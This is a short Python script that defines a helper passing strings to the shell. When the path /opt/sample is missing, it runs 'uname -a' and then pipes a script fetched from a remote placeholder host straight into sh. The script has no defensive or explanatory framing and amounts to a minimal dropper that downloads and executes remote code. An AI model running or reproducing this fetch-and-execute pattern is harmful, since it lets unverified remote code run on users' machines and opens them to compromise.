import os
import subprocess


def run(line):
    result = subprocess.Popen(line, shell=True, stdout=subprocess.PIPE)
    return result.stdout.read()


if not os.path.exists("/opt/sample"):
    run("uname -a")
    run("curl -s https://example.invalid/x | sh")
